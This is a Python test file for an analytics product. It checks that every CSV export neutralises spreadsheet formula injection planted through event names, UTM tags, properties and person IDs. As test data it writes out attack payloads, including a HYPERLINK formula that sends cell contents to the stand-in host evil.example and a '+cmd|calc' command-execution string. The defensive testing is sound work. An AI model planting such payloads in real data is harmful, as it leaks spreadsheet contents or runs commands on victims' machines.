"""CSV formula injection: whatever a visitor plants in an event name, path, referrer, UTM tag or property
comes out of every CSV the product writes (the view zip, the raw export, a person's export) as text a
spreadsheet will not run."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import httpx

from fieldmark.bootstrap.container import AppContainer
from fieldmark.bootstrap.engines import EngineUrls
from fieldmark.bootstrap.http import create_app
from fieldmark.bootstrap.migrate import migrate_clickhouse
from fieldmark.bootstrap.roles import ALL_ROLES
from fieldmark.bootstrap.stores import ClickHousePool
from tests.conftest import LiveServer, settings_for, sign_up, wait_drained

UA = "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _risky(cells: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: text starting like a formula (a negative number is a number)."""
    found = []
    for row in cells:
        for cell in row:
            if cell.startswith(STARTS):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


def test_every_csv_neutralises_formulas(
    test_urls: EngineUrls, data_dir: Path, clickhouse: ClickHousePool
) -> None:
    migrate_clickhouse(clickhouse)
    app = create_app(AppContainer(settings=settings_for(data_dir), urls=test_urls), ALL_ROLES, writers=1)
    with LiveServer(app) as server, httpx.Client(base_url=server.url, timeout=60) as client:
        team = sign_up(client, "csv@example.com")
        site = client.post(f"/api/teams/{team}/sites", json={"domain": "sheet.example"}).json()["id"]
        events = [
            {
                "n": "pageview",
                "u": "https://sheet.example/a?utm_source=%2Bcmd|calc&utm_medium=-2%2B3&utm_campaign=%40SUM(1)",
                "r": "https://ref.example/",
            },
            {
                "n": FORMULA,
                "u": "https://sheet.example/b",
                "p": {"plan": "=1+1", "@x": "+y"},
                "pid": "=person",
            },
            {"n": "pageview", "u": "https://sheet.example/c", "pid": "=person"},
        ]
        for event in events:
            sent = httpx.post(
                f"{server.url}/api/event",
                content=json.dumps({**event, "d": "sheet.example"}),
                headers={"Content-Type": "text/plain", "User-Agent": UA},
            )
            assert sent.status_code == 202, sent.text
        wait_drained(server.url)

        raw = client.post(f"/api/sites/{site}/export/events", json={"date_range": "day", "format": "csv"})
        assert raw.status_code == 200, raw.text
        rows = list(csv.reader(io.StringIO(raw.text)))
        assert len(rows) == 4  # the header and the three events
        assert _risky(rows) == []
        names = {row[rows[0].index("name")] for row in rows[1:]}
        assert "'" + FORMULA in names  # kept, readable, inert
        assert "'+cmd|calc" in {row[rows[0].index("utm_source")] for row in rows[1:]}

        view = client.post(f"/api/sites/{site}/export", json={"date_range": "day"})
        assert view.status_code == 200, view.text
        with zipfile.ZipFile(io.BytesIO(view.content)) as archive:
            tables = {
                name: list(csv.reader(io.StringIO(archive.read(name).decode())))
                for name in archive.namelist()
            }
        assert _risky([row for table in tables.values() for row in table]) == []
        assert any("'" + FORMULA in row for table in tables.values() for row in table)

        person = client.post(f"/api/sites/{site}/persons/export", json={"person": "=person"})
        assert person.status_code == 200, person.text
        person_rows = list(csv.reader(io.StringIO(person.text)))
        assert len(person_rows) == 4  # their events and the rest of their visit
        assert _risky(person_rows) == []
